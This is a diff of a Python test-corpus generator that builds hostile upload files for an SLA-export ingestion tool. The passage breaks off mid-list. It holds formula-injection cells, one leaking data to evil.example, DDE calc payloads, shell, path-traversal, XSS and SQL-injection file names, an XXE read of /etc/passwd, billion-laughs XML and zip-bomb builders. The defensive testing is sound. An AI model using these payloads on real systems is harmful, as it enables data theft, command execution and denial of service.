@@ -1,0 +1,801 @@
+"""Generate the corpus of malformed and hostile upload files Floorline must survive.
+
+    python tests/hostile/make_corpus.py OUTPUT_FOLDER
+
+writes every file into OUTPUT_FOLDER, plus ``manifest.json`` saying, for each, what Floorline
+must do with it. Nothing here is committed as data: the files are built from code each time
+(``tests/hostile/test_hostile_files.py`` calls ``write_corpus`` into a temporary folder).
+
+Two kinds of case:
+
+- **refused**: the upload is refused with a message that starts with the file's name and
+  contains ``reason``; where the fault sits in one cell, the message names that ``row`` (as a
+  spreadsheet shows it: the header is row 1) and ``column``. Nothing stored may change.
+- **accepted**: fine data in a hostile dress (a file name full of path separators and shell
+  or HTML characters, cells that a spreadsheet would run as formulas). Floorline must store
+  it safely: the archive path comes from the file's hash, the name is kept as text, formulas
+  come back neutralised in downloads. ``check`` names what the test verifies.
+
+``isolated`` cases (compression bombs) are ingested in a child process with a memory limit,
+so a regression cannot take the test machine down with it.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import json
+import random
+import re
+import struct
+import sys
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import asdict, dataclass
+from pathlib import Path
+
+SLA_HEADER = [
+    "Ticket ID",
+    "Ticket form",
+    "SLA metric",
+    "SLA metric status",
+    "SLA target status",
+    "Time - SLA status update - Date",
+    "Preferred Region for Support",
+]
+DATE_COLUMN = "Time - SLA status update - Date"
+AGGREGATE_HEADER = ["Week", "Segment", "Metric", "Good", "Total"]
+PERCENT_HEADER = ["Week", "Segment", "Metric", "Percentage"]
+
+# One complete week (Monday 2026-09-07 to Sunday 2026-09-13): the first and last day carry an
+# out-of-scope row so the export's dates span the whole week.
+GOOD_ROWS = [
+    ["5001", "SaaS", "Requester wait time", "Completed", "Achieved", "2026-09-07", "EMEA"],
+    ["5002", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-08", "EMEA"],
+    ["5003", "Self-Managed", "First reply time", "Completed", "Breached", "2026-09-09", "Americas, USA"],
+    ["5004", "L&R", "Next reply time", "Completed", "Achieved", "2026-09-10", "Asia Pacific"],
+    ["5005", "SaaS", "Requester wait time", "Completed", "Achieved", "2026-09-13", "EMEA"],
+]
+WEEK = "2026-09-07"
+GOOD_ROW = ["5100", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-08", "EMEA"]
+
+# Text a spreadsheet would run as a formula, planted in every text column a file can carry.
+FORMULAS = {
+    "form": '=HYPERLINK("http://evil.example/?leak="&A1,"SaaS")',
+    "region": "+cmd|' /C calc'!A0",
+    "ticket": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "group": "-2+3+cmd|' /C calc'!A0",
+    "file name": '=HYPERLINK("http://evil.example/","export").csv',
+}
+HOSTILE_NAMES = {
+    "accepted-name-parent-dirs": "../../x.csv",
+    "accepted-name-absolute-path": "/etc/cron.d/floorline.csv",
+    "accepted-name-backslashes": "..\\..\\Windows\\System32\\evil.csv",
+    "accepted-name-shell": "$(touch pwned); rm -rf ~ `id` | tee x.csv",
+    "accepted-name-html": '<img src=x onerror="alert(1)"><script>alert(2)</script>.csv',
+    "accepted-name-sql": "x'); DROP TABLE uploads; --.csv",
+}
+
+
+@dataclass(frozen=True)
+class Case:
+    """One corpus file and what Floorline must do with it."""
+
+    id: str  # test id: starts with "refused-" or "accepted-"
+    file: str  # the file's name in the corpus folder (always a plain name)
+    upload_name: str  # the name the browser sends with it (may be hostile)
+    refused: bool
+    reason: str = ""  # words the refusal must contain
+    row: int | None = None
+    column: str | None = None
+    isolated: bool = False
+    check: str = ""  # for accepted cases: what the test verifies besides rows and weeks
+    rows_used: int | None = None  # for accepted cases: the rows counted, and the one week stored
+    complete: bool | None = None  # ... and whether the export covers that week completely
+    why: str = ""
+
+
+# --- builders -------------------------------------------------------------------------------
+
+
+def csv_bytes(header: list[str], rows: list[list[str]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
+    writer.writerow(header)
+    writer.writerows(rows)
+    return buffer.getvalue().encode(encoding)
+
+
+def sla_with(bad_row: list[str]) -> bytes:
+    """A valid row at spreadsheet row 2, the faulty one at row 3."""
+    return csv_bytes(SLA_HEADER, [GOOD_ROW, bad_row])
+
+
+def sla_row(**changes: str) -> list[str]:
+    row = dict(zip(SLA_HEADER, GOOD_ROW, strict=True))
+    names = {
+        "ticket": "Ticket ID",
+        "form": "Ticket form",
+        "metric": "SLA metric",
+        "metric_status": "SLA metric status",
+        "status": "SLA target status",
+        "date": DATE_COLUMN,
+        "region": "Preferred Region for Support",
+    }
+    for field, value in changes.items():
+        row[names[field]] = value
+    return list(row.values())
+
+
+def aggregate_with(bad: list[str], header: list[str] = AGGREGATE_HEADER) -> bytes:
+    good = ["2026-08-31", "GitLab SaaS", "FRT", "95", "100"] if header == AGGREGATE_HEADER else None
+    good = good or ["2026-08-31", "GitLab SaaS", "FRT", "95"]
+    return csv_bytes(header, [good, bad])
+
+
+XLSX_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
+<Default Extension="xml" ContentType="application/xml"/>
+<Override PartName="/xl/workbook.xml"
+ ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
+<Override PartName="/xl/worksheets/sheet1.xml"
+ ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
+</Types>"""
+XLSX_ROOT_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Target="xl/workbook.xml"
+ Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>
+</Relationships>"""
+XLSX_WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+ xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
+<sheets><sheet name="Export" sheetId="1" r:id="rId1"/></sheets></workbook>"""
+XLSX_WORKBOOK_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
+<Relationship Id="rId1" Target="worksheets/sheet1.xml"
+ Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>
+</Relationships>"""
+SHEET_PATH = "xl/worksheets/sheet1.xml"
+SHEET_OPEN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def column_letter(index: int) -> str:
+    letters = ""
+    index += 1
+    while index:
+        index, remainder = divmod(index - 1, 26)
+        letters = chr(65 + remainder) + letters
+    return letters
+
+
+def xml_escape(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
+
+
+def sheet_row(number: int, cells: list[str]) -> str:
+    parts = [
+        f'<c r="{column_letter(i)}{number}" t="inlineStr"><is><t>{xml_escape(value)}</t></is></c>'
+        for i, value in enumerate(cells)
+        if value != ""
+    ]
+    return f'<row r="{number}">{"".join(parts)}</row>'
+
+
+def sheet_xml(rows: list[list[str]], *, dimension: str | None = None, doctype: str = "") -> str:
+    body = "".join(sheet_row(number, cells) for number, cells in enumerate(rows, start=1))
+    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
+    return f"{SHEET_OPEN}{doctype}<worksheet {SHEET_NS}>{dim}<sheetData>{body}</sheetData></worksheet>"
+
+
+def xlsx_bytes(sheet: str | bytes | None, *, workbook: str = XLSX_WORKBOOK, sheet_stored: bool = False) -> bytes:
+    """A minimal workbook written part by part, so a test can put anything in any part."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
+        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
+        archive.writestr("xl/workbook.xml", workbook)
+        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
+        if sheet is not None:
+            archive.writestr(SHEET_PATH, sheet, zipfile.ZIP_STORED if sheet_stored else zipfile.ZIP_DEFLATED)
+    return buffer.getvalue()
+
+
+def corrupt_stored_sheet(workbook: bytes, old: bytes, new: bytes) -> bytes:
+    """Change bytes inside the stored (uncompressed) sheet, leaving its CRC-32 as it was: a damaged file."""
+    assert len(old) == len(new) and workbook.count(old) == 1
+    return workbook.replace(old, new)
+
+
+# --- the compression bomb -------------------------------------------------------------------
+# Deflate cannot shrink data more than about 1000 to 1, so gigabytes of sheet take megabytes
+# however they are written; compressing gigabytes would also take the test suite minutes. A
+# "full flush" makes a compressed block independent of what came before, so one 16 MiB block
+# of whitespace, compressed once, is written as many times as needed. The CRC-32 of the
+# repeated block comes from zlib's crc32_combine, done here in Python.
+
+
+def _gf2_times(matrix: list[int], vector: int) -> int:
+    total, index = 0, 0
+    while vector:
+        if vector & 1:
+            total ^= matrix[index]
+        vector >>= 1
+        index += 1
+    return total
+
+
+def _gf2_square(matrix: list[int]) -> list[int]:
+    return [_gf2_times(matrix, matrix[n]) for n in range(32)]
+
+
+def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
+    """CRC-32 of A + B from crc(A), crc(B) and len(B) (zlib's algorithm)."""
+    if length2 == 0:
+        return crc1
+    odd = [0xEDB88320] + [1 << n for n in range(31)]
+    even = _gf2_square(odd)
+    odd = _gf2_square(even)
+    while True:
+        even = _gf2_square(odd)
+        if length2 & 1:
+            crc1 = _gf2_times(even, crc1)
+        length2 >>= 1
+        if not length2:
+            break
+        odd = _gf2_square(even)
+        if length2 & 1:
+            crc1 = _gf2_times(odd, crc1)
+        length2 >>= 1
+        if not length2:
+            break
+    return crc1 ^ crc2
+
+
+def repeated_crc(block_crc: int, block_length: int, count: int) -> tuple[int, int]:
+    """(CRC-32, length) of a block repeated ``count`` times, by doubling."""
+    result_crc, result_length = 0, 0
+    power_crc, power_length = block_crc, block_length
+    while count:
+        if count & 1:
+            result_crc = crc32_combine(result_crc, power_crc, power_length)
+            result_length += power_length
+        power_crc = crc32_combine(power_crc, power_crc, power_length)
+        power_length *= 2
+        count >>= 1
+    return result_crc, result_length
+
+
+def full_flush(data: bytes) -> bytes:
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
+
+
+def write_repeated_member(archive: zipfile.ZipFile, name: str, head: bytes, block: bytes, count: int, tail: bytes):
+    """Write the member head + block * count + tail, compressing the block once (see above)."""
+    packed_head, packed_block = full_flush(head), full_flush(block)
+    finisher = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed_tail = finisher.compress(tail) + finisher.flush()
+    blocks_crc, blocks_length = repeated_crc(zlib.crc32(block), len(block), count)
+    crc = crc32_combine(crc32_combine(zlib.crc32(head), blocks_crc, blocks_length), zlib.crc32(tail), len(tail))
+    # zipfile can stream a member only by compressing it itself; the precompressed member is
+    # written the way ZipFile.writestr writes one, header first (ZIP64: sizes over 4 GB are fine).
+    info = zipfile.ZipInfo(name, date_time=(2026, 11, 23, 9, 0, 0))
+    info.compress_type = zipfile.ZIP_DEFLATED
+    info.file_size = len(head) + blocks_length + len(tail)
+    info.compress_size = len(packed_head) + count * len(packed_block) + len(packed_tail)
+    info.CRC = crc
+    info.header_offset = archive.fp.tell()
+    archive.fp.write(info.FileHeader(zip64=True))
+    archive.fp.write(packed_head)
+    for _ in range(count):
+        archive.fp.write(packed_block)
+    archive.fp.write(packed_tail)
+    archive.filelist.append(info)
+    archive.NameToInfo[info.filename] = info
+    archive.start_dir = archive.fp.tell()
+
+
+def bomb_xlsx(path: Path, unpacked_bytes: int) -> None:
+    """A valid workbook whose one sheet is a real header and row followed by gigabytes of whitespace."""
+    head = sheet_xml([SLA_HEADER, GOOD_ROW]).removesuffix("</sheetData></worksheet>").encode()
+    tail = b"</sheetData></worksheet>"
+    block = b" " * (16 * 1024 * 1024)
+    count = max(1, (unpacked_bytes - len(head) - len(tail)) // len(block))
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
+        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
+        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
+        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
+        write_repeated_member(archive, SHEET_PATH, head, block, count, tail)
+
+
+def shared_strings_bomb_xlsx(unpacked_bytes: int) -> bytes:
+    """A workbook whose shared-string table (which openpyxl holds in memory whole) is ~140 MB of short
+    strings, packed 12 to 1: the whole-workbook ratio check alone lets it through."""
+    generator = random.Random(4)
+    strings = "".join(f"<si><t>Support ticket form {generator.getrandbits(16):04x}</t></si>" for _ in range(100_000))
+    block = strings.encode()
+    head = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + SHEET_NS.encode() + b">"
+    tail = b"</sst>"
+    sheet = sheet_xml([SLA_HEADER, *GOOD_ROWS])
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES.replace("</Types>", SHARED_STRINGS_TYPE))
+        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
+        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
+        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS.replace("</Relationships>", SHARED_REL))
+        archive.writestr(SHEET_PATH, sheet)
+        write_repeated_member(archive, "xl/sharedStrings.xml", head, block, unpacked_bytes // len(block), tail)
+    return buffer.getvalue()
+
+
+SHARED_STRINGS_TYPE = """<Override PartName="/xl/sharedStrings.xml"
+ ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"""
+SHARED_REL = """<Relationship Id="rId2" Target="sharedStrings.xml"
+ Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>"""
+
+
+def ratio_bomb_xlsx(unpacked_bytes: int) -> bytes:
+    """A workbook of ~60 MB of sheet (blank rows) packed a thousand to one: small, but no export looks like it."""
+    rows = [sheet_row(1, SLA_HEADER), sheet_row(2, GOOD_ROW)]
+    head = f"{SHEET_OPEN}<worksheet {SHEET_NS}><sheetData>{''.join(rows)}"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("[Content_Types].xml", XLSX_CONTENT_TYPES)
+        archive.writestr("_rels/.rels", XLSX_ROOT_RELS)
+        archive.writestr("xl/workbook.xml", XLSX_WORKBOOK)
+        archive.writestr("xl/_rels/workbook.xml.rels", XLSX_WORKBOOK_RELS)
+        with archive.open(SHEET_PATH, "w") as sheet:
+            sheet.write(head.encode())
+            sheet.write(b"\n" * unpacked_bytes)
+            sheet.write(b"</sheetData></worksheet>")
+    return buffer.getvalue()
+
+
+# --- small binary files ---------------------------------------------------------------------
+
+
+def png_bytes() -> bytes:
+    """A real 1x1 PNG."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    pixels = zlib.compress(b"\x00\xff\x00\x00")
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+
+
+def zip_of(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def noise(size: int, seed: int) -> bytes:
+    data = random.Random(seed).randbytes(size)
+    return b"\x07" + data  # never starts like a known format by chance
+
+
+def ole_bytes() -> bytes:
+    """The first sector of an old .xls (OLE compound file) header."""
+    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + b"\x00" * 482
+
+
+# --- the corpus -----------------------------------------------------------------------------
+
+
+def corpus() -> list[tuple[Case, Callable[[], bytes] | bytes | None]]:
+    """Every case with its bytes, or a function making them (large ones are made only when written).
+
+    None stands for the gigabyte bomb, which ``bomb_xlsx`` streams to disk.
+    """
+    header_only = csv_bytes(SLA_HEADER, [])
+    valid = csv_bytes(SLA_HEADER, GOOD_ROWS)
+    good_line = b"5100,SaaS,First reply time,Completed,Achieved,2026-09-08,EMEA\n"
+    ten_thousand = [f"Field {i}" for i in range(10_000)]
+    cases: list[tuple[Case, Callable[[], bytes] | bytes | None]] = []
+
+    def refused(case_id, name, data, reason, *, row=None, column=None, upload_name=None, isolated=False, why=""):
+        case = Case(case_id, name, upload_name or name, True, reason, row, column, isolated, why=why)
+        cases.append((case, data))
+
+    def accepted(case_id, name, data, check="", *, upload_name=None, rows_used=3, complete=True, why=""):
+        case = Case(
+            case_id, name, upload_name or name, False, check=check, rows_used=rows_used, complete=complete, why=why
+        )
+        cases.append((case, data))
+
+    # Files that are not exports at all.
+    refused("refused-empty", "empty.csv", b"", "the file is empty")
+    refused("refused-blank-lines-only", "blank.csv", b"\r\n\n   \n\t\n", "the file has no rows")
+    refused("refused-utf8-bom-only", "bom.csv", codecs.BOM_UTF8, "the file has no rows")
+    refused("refused-header-only", "header_only.csv", header_only, "the file has a header but no data rows")
+    refused(
+        "refused-title-rows-and-header-only",
+        "titled_header_only.csv",
+        b"Zendesk Explore: SLA achievement\nGenerated 2026-09-14\n\n" + header_only,
+        "the file has a header but no data rows",
+    )
+    refused("refused-binary-noise", "noise.csv", noise(64 * 1024, seed=8), "binary data")
+    refused("refused-png-renamed-csv", "chart.csv", png_bytes(), "this is a PNG image")
+    refused("refused-pdf-renamed-csv", "report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF")
+    refused("refused-gzip-renamed-csv", "export.csv.csv", b"\x1f\x8b\x08\x00" + zlib.compress(valid), "gzip")
+    refused("refused-old-xls", "export.xls.csv", ole_bytes(), "old-style Excel")
+    refused(
+        "refused-zip-not-a-workbook",
+        "archive.xlsx",
+        zip_of({"readme.txt": b"hello", "export.csv": valid}),
+        "this ZIP archive is not an Excel workbook",
+    )
+    refused("refused-zip-damaged", "damaged.xlsx", b"PK\x03\x04" + noise(2048, seed=3), "damaged")
+
+    # Workbooks: empty, damaged, hostile XML, bombs.
+    empty_sheet = xlsx_bytes(sheet_xml([]))
+    refused("refused-xlsx-no-rows", "empty_sheet.xlsx", empty_sheet, "every sheet in the workbook is empty")
+    refused(
+        "refused-xlsx-header-only",
+        "header_only.xlsx",
+        xlsx_bytes(sheet_xml([SLA_HEADER])),
+        "the file has a header but no data rows",
+    )
+    refused(
+        "refused-xlsx-missing-sheet-part",
+        "no_sheet_part.xlsx",
+        xlsx_bytes(None),
+        "every sheet in the workbook is empty",
+        why="workbook.xml names a sheet whose part is not in the archive (openpyxl skips it)",
+    )
+    truncated = sheet_xml([SLA_HEADER, *GOOD_ROWS * 40])
+    refused(
+        "refused-xlsx-truncated-sheet-xml",
+        "truncated.xlsx",
+        xlsx_bytes(truncated[: len(truncated) // 2]),
+        "the workbook cannot be",
+    )
+    stored = xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS]), sheet_stored=True)
+    refused(
+        "refused-xlsx-crc-mismatch",
+        "bad_crc.xlsx",
+        corrupt_stored_sheet(stored, b"Asia Pacific", b"Asia Pacifix"),
+        "the workbook cannot be",
+        why="one byte of the sheet changed after the ZIP recorded its checksum",
+    )
+    # a = "ha", b = ten a's, c = ten b's, ... j = a thousand million "ha"s, from a few hundred bytes.
+    entities = "".join(f'<!ENTITY {chr(99 + i)} "{("&" + chr(98 + i) + ";") * 10}">' for i in range(8))
+    laughs = f'<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "{"&a;" * 10}">{entities}]>'
+    laughing_sheet = sheet_xml([SLA_HEADER, sla_row(form="&j;")], doctype=laughs).replace("&amp;j;", "&j;")
+    refused(
+        "refused-xlsx-billion-laughs-in-sheet",
+        "laughs_sheet.xlsx",
+        xlsx_bytes(laughing_sheet),
+        "the workbook cannot be",
+        why="XML entity expansion: gigabytes of text from a few hundred bytes",
+    )
+    laughing_workbook = XLSX_WORKBOOK.replace(
+        '<workbook xmlns="', laughs.replace("worksheet", "workbook") + '<workbook xmlns="', 1
+    ).replace('name="Export"', 'name="&j;"')
+    refused(
+        "refused-xlsx-billion-laughs-in-workbook",
+        "laughs_workbook.xlsx",
+        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS]), workbook=laughing_workbook),
+        "the workbook cannot be opened",
+    )
+    external = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    refused(
+        "refused-xlsx-external-entity",
+        "xxe.xlsx",
+        xlsx_bytes(sheet_xml([SLA_HEADER, sla_row(form="&xxe;")], doctype=external).replace("&amp;xxe;", "&xxe;")),
+        "the workbook cannot be",
+        why="an XML external entity pointing at /etc/passwd must never be read",
+    )
+    formula_sheet = sheet_xml([SLA_HEADER, GOOD_ROW, sla_row(status="PLACEHOLDER")]).replace(
+        '<c r="E3" t="inlineStr"><is><t>PLACEHOLDER</t></is></c>', '<c r="E3"><f>"Achie"&amp;"ved"</f></c>'
+    )
+    refused(
+        "refused-xlsx-formula-without-cached-value",
+        "formula_status.xlsx",
+        xlsx_bytes(formula_sheet),
+        "the target status is empty on a completed target",
+        row=3,
+        column="SLA target status",
+        why="a formula cell is read as its saved value, never evaluated; this one has none",
+    )
+    refused(
+        "refused-xlsx-bomb-gigabytes",
+        "bomb.xlsx",
+        None,
+        "compression bomb",
+        isolated=True,
+        why="2 MB that unpacks to 2.3 GB of sheet XML",
+    )
+    refused(
+        "refused-xlsx-bomb-ratio",
+        "ratio_bomb.xlsx",
+        lambda: ratio_bomb_xlsx(60 * 1024 * 1024),
+        "compression bomb",
+        isolated=True,
+        why="60 MB of sheet packed a thousand to one",
+    )
+    refused(
+        "refused-xlsx-shared-strings-over-128-mb",
+        "shared_strings.xlsx",
+        lambda: shared_strings_bomb_xlsx(144 * 1024 * 1024),
+        "the workbook's xl/sharedStrings.xml would unpack to 141 MB",
+        isolated=True,
+        why="openpyxl holds the shared-string table in memory whole: a few MB could cost gigabytes",
+    )
+    truncated_after_dimension = sheet_xml([SLA_HEADER, *GOOD_ROWS * 40], dimension="A1:G201")
+    refused(
+        "refused-xlsx-truncated-sheet-xml-after-its-dimension",
+        "truncated_dimension.xlsx",
+        xlsx_bytes(truncated_after_dimension[: len(truncated_after_dimension) // 2]),
+        "the workbook cannot be read",
+        why="openpyxl finds the fault only while reading the rows",
+    )
+    far_cells = re.sub(
+        r'<row r="(\d+)">(.*?)</row>',
+        lambda row: f'<row r="{row[1]}">{row[2]}<c r="XFD{row[1]}" t="inlineStr"><is><t>far</t></is></c></row>',
+        sheet_xml([SLA_HEADER, *GOOD_ROWS]),
+    )
+    refused(
+        "refused-xlsx-cell-in-column-16384",
+        "far_column.xlsx",
+        xlsx_bytes(far_cells),
+        "the header has 16,384 columns",
+        row=1,
+        why="a cell in the last column Excel allows, on every row",
+    )
+
+    # Lines and columns no export has.
+    refused(
+        "refused-first-line-10mb",
+        "long_line.csv",
+        lambda: b"Ticket ID," + b"x" * (10 * 1024 * 1024) + b"\n" + valid,
+        "the first line is longer than 1 MB",
+        row=1,
+    )
+    long_cell = b'5100,SaaS,First reply time,Completed,Achieved,2026-09-08,"' + b"y" * (10 * 1024 * 1024) + b'"\n'
+    refused("refused-data-line-10mb", "long_row.csv", lambda: header_only + long_cell, "longer than 2 MB", row=2)
+    refused(
+        "refused-10000-unknown-columns",
+        "wide.csv",
+        lambda: csv_bytes(ten_thousand, [[str(i) for i in range(10_000)]]),
+        "the header has 10,000 columns",
+        row=1,
+    )
+    refused(
+        "refused-10000-columns-beside-a-valid-export",
+        "wide_valid.csv",
+        lambda: csv_bytes(SLA_HEADER + ten_thousand, [row + ["z"] * 10_000 for row in GOOD_ROWS]),
+        "the header has 10,007 columns",
+        row=1,
+        why="DuckDB would need gigabytes of buffers for 10,000 columns, whatever the file's size",
+    )
+    refused(
+        "refused-mixed-delimiters",
+        "mixed.csv",
+        header_only + good_line + b"5101;SaaS;First reply time;Completed;Achieved;2026-09-08;EMEA\n",
+        "the SLA metric is empty",
+        row=3,
+        column="SLA metric",
+        why="a comma-separated file with one row separated by semicolons",
+    )
+    refused(
+        "refused-unbalanced-quotes",
+        "quotes.csv",
+        header_only + good_line + b'5101,"SaaS,First reply time,Completed,Achieved,2026-09-08,EMEA\n' + good_line,
+        "unbalanced quotes",
+        row=3,
+    )
+    refused(
+        "refused-too-many-fields",
+        "extra_fields.csv",
+        header_only + good_line.rstrip() + b",surprise,more\n",
+        "fields but the header has 7",
+        row=2,
+    )
+
+    # Encodings: UTF-8, UTF-16 and Windows-1252 are read (DECISIONS.md section 8); nothing else.
+    text = valid.decode()
+    refused("refused-utf32-le-bom", "utf32le.csv", b"\xff\xfe\x00\x00" + text.encode("utf-32-le"), "UTF-32")
+    refused("refused-utf32-be-bom", "utf32be.csv", b"\x00\x00\xfe\xff" + text.encode("utf-32-be"), "UTF-32")
+    refused("refused-utf32-le-no-bom", "utf32le_nobom.csv", text.encode("utf-32-le"), "NUL bytes")
+    refused("refused-ebcdic", "ebcdic.csv", text.encode("cp500"), "encoding Floorline cannot read")
+    refused(
+        "refused-utf16-broken-surrogate",
+        "utf16_broken.csv",
+        codecs.BOM_UTF16_LE + text.encode("utf-16-le") + b"\x00\xd8\x41\x00",
+        "is not valid UTF-16",
+        why="a lone surrogate: the file claims UTF-16 and is not",
+    )
+    refused(
+        "refused-invalid-utf8-after-first-megabyte",
+        "late_bad_utf8.csv",
+        lambda: (
+            header_only
+            + good_line * 20_000
+            + b"5101,SaaS,First reply time,Completed,Achieved,2026-09-08,\xc3\x28\xa0\n"
+        ),
+        "not valid UTF-8",
+        row=20_002,
+    )
+    refused("refused-nul-bytes", "nul.csv", valid.replace(b"Self-Managed", b"Self\x00Managed"), "NUL bytes")
+    refused(
+        "refused-nul-byte-after-first-4kb",
+        "late_nul.csv",
+        header_only + good_line * 200 + b"5101,Sa\x00aS,First reply time,Completed,Achieved,2026-09-08,EMEA\n",
+        "binary data (a NUL byte)",
+        row=202,
+    )
+
+    # Dates.
+    for case_id, value, reason in [
+        ("refused-date-in-the-future", "2099-01-05", "before 2000 or in the future"),
+        ("refused-date-before-2000", "1999-12-31", "before 2000 or in the future"),
+        ("refused-date-year-one", "0001-01-01", "before 2000 or in the future"),
+        ("refused-date-impossible-feb-30", "2026-02-30", "'2026-02-30' is not a date"),
+        ("refused-date-impossible-us-slash", "02/30/2026", "'02/30/2026' is not a date"),
+        ("refused-date-month-13", "2026-13-01", "'2026-13-01' is not a date"),
+        ("refused-date-infinity", "infinity", "before 2000 or in the future"),
+        ("refused-date-words", "next Tuesday", "'next Tuesday' is not a date"),
+    ]:
+        refused(case_id, f"{case_id[8:]}.csv", sla_with(sla_row(date=value)), reason, row=3, column=DATE_COLUMN)
+    refused(
+        "refused-aggregate-week-in-the-future",
+        "agg_future.csv",
+        aggregate_with(["2099-01-05", "GitLab SaaS", "NRT", "9", "10"]),
+        "before 2000 or in the future",
+        row=3,
+        column="week",
+    )
+    # Ignored rows are never refused (DECISIONS.md section 8), but their dates decide which weeks
+    # an export covers completely: one absurd date must not make a partial week look complete.
+    partial_week = [
+        ["5201", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-07", "EMEA"],
+        ["5202", "SaaS", "First reply time", "Completed", "Breached", "2026-09-10", "EMEA"],
+    ]
+    for case_id, value in [
+        ("accepted-active-target-dated-2099-leaves-the-week-partial", "2099-01-01"),
+        ("accepted-active-target-dated-infinity-leaves-the-week-partial", "infinity"),
+    ]:
+        active = sla_row(ticket="5203", metric_status="Active", status="", date=value)
+        data = csv_bytes(SLA_HEADER, [*partial_week, active])
+        why = "an ignored row with a date outside 2000..today counts as a row without a date"
+        accepted(case_id, f"{case_id[9:]}.csv", data, rows_used=2, complete=False, why=why)
+
+    # Counts and percentages (weekly aggregates).
+    for case_id, header, bad, reason, column in [
+        ("refused-percentage-above-100", PERCENT_HEADER, ["140"], "the percentage 140 is outside 0 to 100",
+         "percentage"),
+        ("refused-percentage-below-0", PERCENT_HEADER, ["-3"], "the percentage -3 is outside 0 to 100", "percentage"),
+        ("refused-percentage-nan", PERCENT_HEADER, ["NaN"], "the percentage NaN is outside 0 to 100", "percentage"),
+        ("refused-percentage-infinity", PERCENT_HEADER, ["inf"], "the percentage inf is outside 0 to 100",
+         "percentage"),
+        ("refused-count-negative", AGGREGATE_HEADER, ["-1", "10"], "not whole numbers", "good/total"),
+        ("refused-count-not-whole", AGGREGATE_HEADER, ["2.5", "10"], "not whole numbers", "good/total"),
+        ("refused-count-exponent", AGGREGATE_HEADER, ["1e3", "2e3"], "not whole numbers", "good/total"),
+        ("refused-count-beyond-64-bits", AGGREGATE_HEADER, ["99999999999999999999999"] * 2, "not whole numbers",
+         "good/total"),
+        ("refused-good-greater-than-total", AGGREGATE_HEADER, ["12", "10"], "good (12) is greater than total (10)",
+         "good/total"),
